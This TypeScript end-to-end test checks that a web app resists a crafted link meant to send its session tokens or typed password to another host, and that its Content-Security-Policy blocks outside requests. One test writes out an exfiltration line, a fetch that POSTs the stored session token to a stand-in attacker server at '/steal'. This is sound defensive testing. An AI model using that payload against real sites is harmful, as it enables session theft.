import { createServer, type Server } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLocalUser } from '../../tools/local-stack/src/auth/index.ts';
import { freePort } from '../../tools/local-stack/src/cluster.ts';
import { launchChromium, ready } from '../e2e/browser.ts';
import { type Books, startBooks } from './books.ts';

// The attack: a signed-in user opens /?url=https://elsewhere&key=… and the page sends the
// session (access and refresh token) — or the password typed into its login form — to that
// host. Now the deployed config.js wins over the link, the session is stored per project URL,
// and the Content-Security-Policy lets the page talk to its configured origin only.
let b: Books;
let browser: Browser;
let elsewhere: Server;
let evil: string;
const received: string[] = [];

beforeAll(async () => {
  [b, browser] = await Promise.all([startBooks(), launchChromium()]);
  const id = await createLocalUser(b.dbUrl, { email: 'cfo@example.com', password: 'cfo-password' });
  await b.sql`insert into ods.access_grants (user_id, company_id) values (${id}, 1)`;
  // The attacker's host: answers everything (CORS open), and remembers what reached it.
  elsewhere = createServer((req, res) => {
    received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Content-Type': 'application/json',
    });
    res.end('[]');
  });
  const port = await freePort();
  await new Promise<void>((r) => elsewhere.listen(port, '127.0.0.1', r));
  evil = `http://127.0.0.1:${port}`;
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await new Promise((r) => elsewhere?.close(r));
  await b?.close();
});

/** Every request the context makes, by origin. */
function watch(ctx: BrowserContext): string[] {
  const origins: string[] = [];
  ctx.on('request', (r) => {
    if (/^https?:/.test(r.url())) origins.push(new URL(r.url()).origin);
  });
  return origins;
}

async function signIn(page: Page) {
  expect(await ready(page)).toBe('login');
  await page.locator('#login-email').fill('cfo@example.com');
  await page.locator('#login-password').fill('cfo-password');
  await page.locator('#login-submit').click();
  await page.waitForFunction(() => document.body.dataset.ready === 'true');
}

const crafted = () => `/?url=${encodeURIComponent(evil)}&key=attacker-chosen-key`;

describe('a crafted link cannot move the session to another origin', () => {
  it('signed in, then the link: the page keeps its configured origin and says so', async () => {
    const ctx = await browser.newContext();
    const origins = watch(ctx);
    const page = await ctx.newPage();
    await page.goto(b.platform.url);
    await signIn(page);
    const keys = await page.evaluate(() => Object.keys(localStorage));
    expect(keys).toEqual([`finanzas-agv-auth:${b.platform.url}`]);

    await page.goto(`${b.platform.url}${crafted()}`);
    expect(await ready(page)).toBe('true');
    expect(await page.locator('[data-testid="notes"]').textContent()).toMatch(
      /url\/key in the link were ignored/,
    );
    expect(new Set(origins)).toEqual(new Set([b.platform.url]));
    expect(received).toEqual([]);
    await ctx.close();
  });

  it('not signed in, then the link: the typed password goes to the configured origin only', async () => {
    const ctx = await browser.newContext();
    const origins = watch(ctx);
    const page = await ctx.newPage();
    await page.goto(`${b.platform.url}${crafted()}`);
    await signIn(page);
    expect(new Set(origins)).toEqual(new Set([b.platform.url]));
    expect(received).toEqual([]);
    await ctx.close();
  });

  it('a user without a grant signs in and is told so, with nothing shown', async () => {
    await createLocalUser(b.dbUrl, { email: 'nobody@example.com', password: 'nobody-pass' });
    const ctx = await browser.newContext();
    const page = await ctx.newPage();
    await page.goto(b.platform.url);
    expect(await ready(page)).toBe('login');
    await page.locator('#login-email').fill('nobody@example.com');
    await page.locator('#login-password').fill('nobody-pass');
    await page.locator('#login-submit').click();
    await page.waitForFunction(
      () => !document.querySelector('[data-testid="fatal"]')?.hasAttribute('hidden'),
    );
    expect(await page.locator('[data-testid="fatal"]').textContent()).toMatch(
      /No company is shared with nobody@example.com yet/,
    );
    expect(await page.locator('#company option').count()).toBe(0);
    await ctx.close();
  });

  it('the Content-Security-Policy blocks any other origin, even from script on the page', async () => {
    const ctx = await browser.newContext();
    const page = await ctx.newPage();
    const res = await page.goto(b.platform.url);
    const header = res?.headers()['content-security-policy'] ?? '';
    expect(header).toMatch(/connect-src 'self'/);
    expect(header).toMatch(/script-src 'self'(;|$)/);
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(meta).toMatch(/connect-src 'self'/);
    // No inline script in the page: every <script> has a src.
    expect(await page.locator('script:not([src])').count()).toBe(0);
    const outcome = await page.evaluate(
      (url) =>
        fetch(`${url}/steal`, {
          method: 'POST',
          body: localStorage.getItem(Object.keys(localStorage)[0] ?? ''),
        }).then(
          () => 'sent',
          () => 'blocked',
        ),
      evil,
    );
    expect(outcome).toBe('blocked');
    const inline = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = true';
      document.head.append(s);
      return (window as unknown as { __inline?: boolean }).__inline ?? false;
    });
    expect(inline).toBe(false);
    expect(received).toEqual([]);
    await ctx.close();
  });
});
